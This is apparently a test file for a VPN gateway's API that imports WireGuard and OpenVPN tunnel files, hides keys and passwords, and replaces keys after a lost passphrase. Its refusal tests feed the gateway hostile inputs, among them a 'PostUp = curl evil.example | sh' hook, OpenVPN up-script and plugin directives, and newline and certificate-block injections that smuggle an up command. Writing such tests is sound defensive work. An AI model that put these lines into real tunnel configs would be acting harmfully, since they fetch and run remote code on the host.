import { rmSync } from "node:fs";
import { join } from "node:path";
import { expect, test } from "vitest";
import { startGateway, type TestGateway } from "../../../../testing/gateway.ts";
import { openvpnFile, peerKey, pem, staticKey, wireguardKey } from "../../../../testing/tunnels.ts";
import { editState } from "../../../../testing/state.ts";
import { publicKeyOf } from "./keys.ts";

const conf = (privateKey: string, ...more: string[]) =>
  [
    "[Interface]",
    `PrivateKey = ${privateKey}`,
    "Address = 10.2.0.2/32",
    "DNS = 10.2.0.1",
    "MTU = 1380",
    ...more,
    "[Peer]",
    `PublicKey = ${peerKey}`,
    "AllowedIPs = 0.0.0.0/0, ::/0",
    "Endpoint = nl.example.net:51820",
    "PersistentKeepalive = 25",
  ].join("\n");

const certificates = {
  ca: pem("CERTIFICATE", "ca"),
  cert: pem("CERTIFICATE", "cert"),
  key: pem("PRIVATE KEY", "key"),
  "tls-crypt": staticKey("ab"),
};

const post = (gateway: TestGateway, path: string, body: unknown) => gateway.request("POST", path, { body });

test("tunnel import: a WireGuard file becomes a tunnel, named after its server unless it has a name", async () => {
  await using gateway = await startGateway();
  const key = wireguardKey();
  const reply = await post(gateway, "/tunnels/import-wireguard", { config: conf(key, "Table = off") });
  expect(reply.status).toBe(201);
  const made = reply.json();
  expect(reply.headers.get("location")).toBe(`/api/v1/tunnels/${made.id}`);
  expect(made).toMatchObject({
    name: "nl.example.net",
    interface: "wg-nl-example-n",
    enabled: true,
    mtu: 1380,
    config: {
      addresses: ["10.2.0.2/32"],
      dns: ["10.2.0.1"],
      public_key: publicKeyOf(key),
      peers: [{ public_key: peerKey, endpoint: "nl.example.net:51820", persistent_keepalive: 25 }],
    },
    notes: [expect.stringContaining("Table")],
  });
  const more = { name: "Mine", enabled: false, interface: "wg7", mtu: null, probe_target: "10.2.0.1" };
  const named = await post(gateway, "/tunnels/import-wireguard", { config: conf(wireguardKey()), ...more });
  expect(named.json()).toMatchObject({ ...more, notes: [] });
  const again = await post(gateway, "/tunnels/import-wireguard", { config: conf(wireguardKey()) });
  expect(again.json()).toMatchObject({ name: "nl.example.net 2", interface: "wg-nl-example-2" });
  const [entry] = (await gateway.client.audit.list({ query: { resource_id: made.id } })).items;
  expect(entry?.action).toBe("import_tunnel");
});

test("tunnel import: a file that would run programs, or is none, is refused with its lines, and nothing is made", async () => {
  await using gateway = await startGateway();
  const refused = async (path: string, config: string) => {
    const reply = await post(gateway, path, { config });
    const { code, details, message } = reply.json().error;
    return { status: reply.status, code, lines: details.refusals.map(({ line }: { line: number }) => line), message };
  };
  const refusal = { status: 400, code: "invalid_request" };
  const hooked = conf(wireguardKey(), "PostUp = curl evil.example | sh");
  expect(await refused("/tunnels/import-wireguard", hooked)).toEqual({
    ...refusal,
    lines: [6],
    message: expect.stringMatching(/^Line 6: PostUp/),
  });
  const keyless = conf("x").replace("PrivateKey = x", "");
  expect(await refused("/tunnels/import-wireguard", keyless)).toMatchObject({ ...refusal, lines: [null] });
  expect(await refused("/tunnels/import-wireguard", "hello")).toMatchObject(refusal);
  const scripted = openvpnFile(certificates, "remote nl.example.net 1194", "script-security 2", "up /tmp/x.sh");
  expect(await refused("/tunnels/upload-ovpn", scripted)).toMatchObject({ ...refusal, lines: [4, 5] });
  expect(await refused("/tunnels/upload-ovpn", conf(wireguardKey()))).toMatchObject(refusal);
  expect((await gateway.client.tunnels.list()).items).toEqual([]);
  expect((await gateway.client.secrets.list()).items).toEqual([]);
});

test("an OpenVPN file becomes a tunnel: certificates show, keys and passwords do not", async () => {
  await using gateway = await startGateway();
  const file = openvpnFile(certificates, "remote nl.example.net 443 tcp", "auth-user-pass", "cipher AES-256-GCM");
  const lacking = await post(gateway, "/tunnels/upload-ovpn", { config: file, name: "Lacking" });
  expect(lacking.json()).toMatchObject({
    config: { requires_credentials: true, username: null, has_password: false },
    notes: expect.arrayContaining([expect.stringContaining("username and password")]),
  });
  const body = { config: file, username: "me", password: "much too secret" };
  const made = (await post(gateway, "/tunnels/upload-ovpn", body)).json();
  expect(made).toMatchObject({
    name: "nl.example.net",
    type: "openvpn",
    interface: "ov-nl-example-n",
    config: {
      remotes: [{ host: "nl.example.net", port: 443, protocol: "tcp" }],
      blocks: { ca: certificates.ca, cert: certificates.cert },
      secret_blocks: ["key", "tls-crypt"],
      requires_credentials: true,
      username: "me",
      has_password: true,
    },
  });
  expect(made.config.directives).toContainEqual({ name: "cipher", args: ["AES-256-GCM"] });
  const { filename, text } = await gateway.client.tunnels.config({ params: { id: made.id } });
  expect(filename).toBe("ov-nl-example-n.ovpn");
  expect(text).toContain("# tls-crypt: stored by the gateway, not shown\n");
  expect(text).toContain("remote nl.example.net 443 tcp\n");
  for (const hidden of [certificates.key, certificates["tls-crypt"], "much too secret"])
    expect(text).not.toContain(hidden.trimEnd());
});

test("tunnel import: an OpenVPN tunnel is made and changed field by field, under the same eyes as a file", async () => {
  await using gateway = await startGateway();
  const { client } = gateway;
  const config = {
    remotes: [{ host: "nl.example.net", port: 1194, protocol: "udp" as const }],
    directives: [{ name: "remote-cert-tls", args: ["server"] }],
    blocks: certificates,
  };
  const made = await client.tunnels.create({ body: { name: "Made", type: "openvpn", config } });
  const params = { id: made.id };
  const update = (changes: object) => client.tunnels.update({ params, body: { config: changes } });
  const version = async () => (await client.secrets.list()).items[0]!.version;
  expect(made.config).toMatchObject({ secret_blocks: ["key", "tls-crypt"], requires_credentials: false });

  expect((await update({ remotes: [{ host: "192.0.2.7", port: 443, protocol: "tcp" }] })).config).toMatchObject({
    remotes: [{ host: "192.0.2.7", port: 443, protocol: "tcp" }],
    blocks: { ca: certificates.ca },
    secret_blocks: ["key", "tls-crypt"],
  });
  expect(await version()).toBe(1);
  const credentials = { requires_credentials: true, username: "me", has_password: true };
  expect((await update({ username: "me", password: "secret" })).config).toMatchObject(credentials);
  expect((await update({ blocks: { "tls-crypt": null } })).config).toMatchObject({
    ...credentials,
    secret_blocks: ["key"],
  });
  expect(await version()).toBe(3);

  const mistakes: object[] = [
    { directives: [{ name: "up", args: ["/tmp/x.sh"] }] },
    { directives: [{ name: "plugin", args: ["x.so"] }] },
    { directives: [{ name: "verb", args: ['3"\nup x'] }] },
    { directives: [{ name: "no-such-thing", args: [] }] },
    { blocks: { ca: `${certificates.ca}</ca>\nup /tmp/x.sh\n<ca>\n${certificates.ca}` } },
    { blocks: { up: "/tmp/x.sh" } },
    { blocks: { ca: null } },
    { blocks: { key: "nothing" } },
    { remotes: [] },
    { username: null },
    { password: null },
    { private_key: wireguardKey() },
  ];
  for (const wrong of mistakes) {
    const reply = await gateway.request("PUT", `/tunnels/${made.id}`, { body: { config: wrong } });
    expect([wrong, reply.status]).toEqual([wrong, 400]);
    expect(reply.json().error.details.fields[0].field).toMatch(/^body\.config/);
  }
  expect((await update({ username: null, password: null })).config).toMatchObject({
    username: null,
    has_password: false,
  });
});

test("tunnel import: a tunnel whose keys cannot be opened any more takes new ones", async () => {
  await using before = await startGateway();
  const file = openvpnFile(certificates, "remote nl.example.net 1194");
  const imported = { config: file, name: "Old" };
  const ovpn = (await post(before, "/tunnels/upload-ovpn", imported)).json();
  const wire = (await post(before, "/tunnels/import-wireguard", { config: conf(wireguardKey()) })).json();
  await using gateway = await before.restart(losePassphrase);
  const update = (id: string, body: object) => gateway.request("PUT", `/tunnels/${id}`, { body });
  expect((await update(wire.id, { config: { dns: [] } })).json().error.code).toBe("secrets_undecipherable");
  expect((await update(wire.id, { mtu: 1400 })).status).toBe(200);
  const key = wireguardKey();
  expect((await update(wire.id, { config: { private_key: key } })).json().config.public_key).toBe(publicKeyOf(key));
  expect((await update(ovpn.id, { config: { blocks: { key: certificates.key } } })).json().config).toMatchObject({
    secret_blocks: ["key"],
  });
});

/** A generated passphrase: the gateway generates a new one, which does not decrypt older values. */
function losePassphrase(stateFolder: string): void {
  rmSync(join(stateFolder, "secrets.passphrase"));
  editState(stateFolder, "DELETE FROM setting WHERE key = 'secrets_passphrase'");
}
